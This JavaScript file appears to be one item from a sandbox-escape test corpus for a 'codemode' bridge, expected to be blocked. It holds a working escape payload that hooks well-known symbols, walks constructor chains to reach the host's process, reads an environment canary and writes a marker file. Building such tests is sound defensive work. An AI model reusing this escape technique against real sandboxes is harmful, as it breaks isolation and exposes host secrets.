// @name    well-known symbols (hasInstance, toPrimitive, iterator, isConcatSpreadable, toStringTag) on what crosses
// @family  symbol
// @ref     generic (a bridge's instanceof, coercion and spread run user symbols)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const catchAll = function () { out = out || probe(this); for (const a of arguments) out = out || probe(a); };
const arg = {
  [Symbol.toPrimitive](hint) { catchAll.apply(this, arguments); return "prim"; },
  [Symbol.iterator]: function* () { catchAll.apply(this, arguments); yield 1; },
  [Symbol.asyncIterator]: async function* () { catchAll.apply(this, arguments); yield 1; },
  [Symbol.toStringTag]: "Promise",
  [Symbol.for("nodejs.util.inspect.custom")]() { catchAll.apply(this, arguments); return "inspected"; },
  [Symbol.for("nodejs.rejection")]() { catchAll.apply(this, arguments); },
  v: 1,
};
const patched = [];
for (const C of [Object, Array, Error, TypeError, Promise, Function, Map, Uint8Array, ArrayBuffer, Date, RegExp]) {
  try {
    Object.defineProperty(C, Symbol.hasInstance, { configurable: true, value(v) { catchAll(v); return Function.prototype[Symbol.hasInstance].call(this, v); } });
    patched.push(C);
  } catch {}
}
try { Object.defineProperty(Array.prototype, Symbol.isConcatSpreadable, { configurable: true, get() { catchAll(this); return undefined; } }); } catch {}
try { out = out || probe(await codemode.demo.echo(arg)); } catch (e) { out = out || probe(e); }
try { out = out || probe(await codemode.demo.echo([arg, [arg], { arg }])); } catch (e) { out = out || probe(e); }
try { await codemode.demo.echo(() => 1); } catch (e) { out = out || probe(e); }
console.log(arg, [arg], `${"%s"}`, arg);
for (const C of patched) delete C[Symbol.hasInstance];
delete Array.prototype[Symbol.isConcatSpreadable];
return out || "blocked";
